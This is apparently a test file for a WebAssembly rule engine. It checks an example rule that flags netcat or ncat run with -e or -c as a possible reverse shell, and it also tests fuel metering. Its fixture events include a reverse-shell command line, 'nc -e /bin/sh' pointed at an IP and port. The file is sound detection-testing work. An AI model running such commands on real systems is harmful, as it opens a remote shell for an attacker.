import { beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { instantiateSync } from '@assemblyscript/loader';
import { JsonEventAccessor } from '../src/shared/wasm/event-accessor.js';
import { UserRule } from '../src/shared/wasm/user-rule.js';
import { getFuel, setFuel } from '../src/shared/wasm/fuel.js';
import { instrumentModule } from '../src/shared/wasm/instrument.js';
import { validateRuleModule } from '../src/shared/wasm/validate.js';
import { USER_RULE_ABI } from '../src/shared/wasm/rule-abi.js';
import { compileRules } from './helpers/asc.js';

let netcat: Uint8Array;
let compute: Uint8Array;
beforeAll(() => {
  ({ 'netcat-exec': netcat, compute } = compileRules(['rules/examples/netcat-exec.ts', 'test/fixtures/wasm-rules/compute.ts']));
});

const events = [
  { process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } },
  { process: { name: 'nc', args: ['nc', '-l', '4444'] } },
  { process: { name: 'bash', args: ['bash', '-e', 'x'] } },
  { 'process.name': 'ncat', 'process.args': ['ncat', '-c', 'sh'] },
  { process: { args: ['nc', '-e'] } },
  { process: { name: 'netcat' } },
];

describe('the example rule (rules/examples/netcat-exec.ts)', () => {
  it('passes validation for the user-rule ABI', () => {
    const report = validateRuleModule(netcat, USER_RULE_ABI);
    expect(report.errors).toEqual([]);
    expect(report.warnings).toEqual([]);
    expect(report.exports).toEqual(expect.arrayContaining(['match', 'memory', '_initialize']));
  });

  it('matches netcat with -e or -c and emits an alert', () => {
    const accessor = new JsonEventAccessor();
    const rule = UserRule.fromBytes(netcat, { ruleId: 'netcat-exec', accessor });
    const outcomes = events.map((e, i) => rule.match((accessor.set(e), i)));
    expect(outcomes).toEqual([
      { ok: true, matched: true, alerts: ['nc -e: possible reverse shell'] },
      { ok: true, matched: false, alerts: [] },
      { ok: true, matched: false, alerts: [] },
      { ok: true, matched: true, alerts: ['ncat -c: possible reverse shell'] },
      { ok: true, matched: false, alerts: [] },
      { ok: true, matched: false, alerts: [] },
    ]);
    expect(rule.counters).toMatchObject({ calls: 6, matches: 2, alerts: 2, disabled: false, faults: { fuel: 0, trap: 0, memory: 0, stack: 0 } });
  });

  it('reads long values through the buffer-growing path of get_str', () => {
    const accessor = new JsonEventAccessor();
    const rule = UserRule.fromBytes(netcat, { ruleId: 'netcat-exec', accessor });
    const long = Array.from({ length: 200 }, (_, i) => `arg${i}`);
    accessor.set({ process: { name: 'nc', args: ['nc', ...long, '-e', 'sh'] } });
    expect(rule.match()).toMatchObject({ ok: true, matched: true });
  });

  it('uses the same fuel for the same event on every run', () => {
    const accessor = new JsonEventAccessor().set(events[0]);
    const rule = UserRule.fromBytes(netcat, { ruleId: 'netcat-exec', accessor });
    const used = [0, 1, 2].map(() => {
      const r = rule.pool.call('match', 0);
      expect(r.ok).toBe(true);
      return r.fuelUsed;
    });
    expect(new Set(used).size).toBe(1);
    expect(used[0]).toBeGreaterThan(100);
  });
});

describe('instrumented AssemblyScript modules compute what the originals compute', () => {
  it('over random inputs, for loops, recursion, strings and allocation', () => {
    const abort = (): never => {
      throw new Error('abort');
    };
    const plain = instantiateSync(new WebAssembly.Module(compute), { env: { abort } }).exports as unknown as Record<string, (n: number) => number>;
    const meteredInstance = instantiateSync(new WebAssembly.Module(instrumentModule(compute, { maxMemoryPages: 64 })), { env: { abort } }).instance;
    const metered = meteredInstance.exports as unknown as Record<string, (n: number) => number>;
    // Compiled with --exportStart: top-level code (runtime set-up) runs when called.
    plain._initialize(0);
    setFuel(meteredInstance, 10_000_000);
    metered._initialize(0);
    fc.assert(
      fc.property(fc.constantFrom('collatz', 'fibonacci', 'strings', 'sorting'), fc.integer({ min: 0, max: 1 << 20 }), (fn, n) => {
        setFuel(meteredInstance, 50_000_000);
        expect(metered[fn](n)).toBe(plain[fn](n));
        expect(getFuel(meteredInstance)).toBeLessThan(50_000_000);
      }),
      { numRuns: 200 },
    );
  });
});
